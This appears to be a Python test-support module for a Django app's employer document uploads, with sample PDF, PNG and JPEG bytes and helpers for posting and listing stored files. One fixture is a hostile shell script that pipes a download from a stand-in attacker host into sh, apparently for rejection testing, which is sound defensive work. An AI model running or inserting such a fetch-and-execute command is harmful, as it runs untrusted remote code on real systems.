"""Files an employer uploads, good and hostile; the upload as the case page posts it; the files
stored."""

import base64
from pathlib import Path

from django.core.files.uploadedfile import SimpleUploadedFile

from applications.models import DocumentKind
from tests.pages import url

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
# A JFIF header, a quantisation table marker and the end-of-image marker.
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + bytes(64) + b"\xff\xd9"
SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"


def stored_files(media_root) -> list[Path]:
    root = Path(media_root)
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def upload(client, application, name, content, *, kind=DocumentKind.GUARANTEE_LETTER, content_type="application/pdf"):
    return client.post(
        url("document-upload", application.pk),
        {"kind": kind, "file": SimpleUploadedFile(name, content, content_type=content_type)},
    )
